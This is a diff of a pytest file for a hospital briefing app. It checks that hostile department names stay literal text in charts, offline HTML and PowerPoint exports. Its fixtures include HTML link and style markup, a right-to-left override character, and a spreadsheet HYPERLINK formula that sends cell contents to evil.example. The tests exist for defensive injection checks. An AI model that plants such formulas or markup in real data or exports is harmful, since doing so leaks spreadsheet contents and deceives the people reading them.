@@ -1,4 +1,4 @@
-"""Hostile department names in the briefing (issue 12, findings 7 and 8): every sink shows a name as written —
+"""Hostile department names in the briefing (PRODUCT §7): every sink shows a name as written —
 the ranking chart (plotly renders a small HTML subset), the offline HTML, the PPTX text and its charts' embedded
 workbooks (xlsxwriter writes a string starting with '=' as a formula) — and a bidi override never reverses a line."""
 
@@ -19,7 +19,7 @@ BOLD = "<b>内分</b><br>泌科"
 RLO = "急诊科\u202e"  # a trailing RIGHT-TO-LEFT OVERRIDE: "61.5 未达 ≥ 90" would read "5.16 达未 ≤ 09"
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"泌尿外科")'
 URL = "https://evil.example/泌尿"  # xlsxwriter makes a string starting with a URL scheme a live link
-# departments below target in the newest demo quarter, so all six are on the ranking slide (issue 13: only those)
+# departments below target in the newest demo quarter, so all six are on the ranking slide (only those)
 HOSTILE = {"K10": LINK, "F04": HUGE, "T03": BOLD, "K20": RLO, "K16": FORMULA, "K18": URL}
 
 
@@ -55,7 +55,7 @@ def _texts(fig) -> list[str]:
 
 
 def test_ranking_chart_shows_names_as_written_never_as_markup(hostile):
-    """12.7: a link, 120 px text, bold and a line break in a name stay text on the projector."""
+    """A link, 120 px text, bold and a line break in a name stay text on the projector."""
     for which, fig in briefing.figures(hostile).items():
         texts = _texts(fig)
         assert not [s for s in texts if _markup(s)], which
@@ -72,7 +72,7 @@ def _without_plotly_bundle(html: str) -> str:
 
 
 def test_offline_html_has_no_live_link_or_override_from_data(hostile):
-    """12.7: the downloaded HTML neither links nor enlarges from a name, in its text or its charts' data."""
+    """The downloaded HTML neither links nor enlarges from a name, in its text or its charts' data."""
     html = _without_plotly_bundle(briefing.to_html(hostile))
     # raw or JSON-escaped ('\u003c'), inside the page or inside a chart's data: no tag from a name survives
     unescaped = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), html).replace('\\"', '"')
@@ -84,15 +84,16 @@ def test_offline_html_has_no_live_link_or_override_from_data(hostile):
 
 
 def test_lines_never_carry_a_bidi_override(hostile):
-    """12.7: the attention line of a department named with a trailing U+202E reads left to right."""
-    lines = briefing.attention_lines(hostile) + briefing.event_lines(hostile) + briefing.conflict_lines(hostile)
+    """The attention line of a department named with a trailing U+202E reads left to right."""
+    tables = (briefing.attention_table, briefing.events_table, briefing.awards_table, briefing.notices_table)
+    lines = [" ".join(row) for table in tables for row in table(hostile).rows]
     assert not [x for x in lines if "\u202e" in x]
-    line = next(x for x in briefing.attention_lines(hostile) if " 急诊科：" in x)
+    line = next(f"{m} {dept}：{why}" for m, dept, why in briefing.attention_table(hostile).rows if dept == "急诊科")
     assert re.search(r"急诊科：.*患者满意度 \d+\.\d 未达 ≥ 90", line)
 
 
 def test_pptx_holds_no_formula_and_shows_names_literally(hostile):
-    """12.8: the deck's embedded chart workbooks hold no formula built from a name; text shows names as written."""
+    """The deck's embedded chart workbooks hold no formula built from a name; text shows names as written."""
     from openpyxl import load_workbook
     from pptx import Presentation
 
@@ -122,7 +123,7 @@ def test_pptx_holds_no_formula_and_shows_names_literally(hostile):
 
 
 def test_presentation_slides_draw_names_as_text(hostile, demo_db):
-    """12.7 on the projector: the page's ranking chart and attention list, in presentation mode."""
+    """Hostile names on the projector: the page's ranking chart and attention list, in presentation mode."""
     from pathlib import Path
 
     from streamlit.testing.v1 import AppTest
@@ -134,7 +135,7 @@ def test_presentation_slides_draw_names_as_text(hostile, demo_db):
     at.run()
     assert not at.exception, [e.message for e in at.exception]
     (spec,) = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
-    ticks = spec["data"][0]["y"]  # horizontal bars: the names are the y categories (issue 13)
+    ticks = spec["data"][0]["y"]  # horizontal bars: the names are the y categories
     assert '&lt;a href="https://evil.example/x"&gt;放射科&lt;/a&gt;' in ticks and not [x for x in ticks if _markup(x)]
     for _ in range(12):  # on to slide 6, the departments needing attention (after any continued slides)
         if "需要关注的科室" in [t.value for t in at.title]:
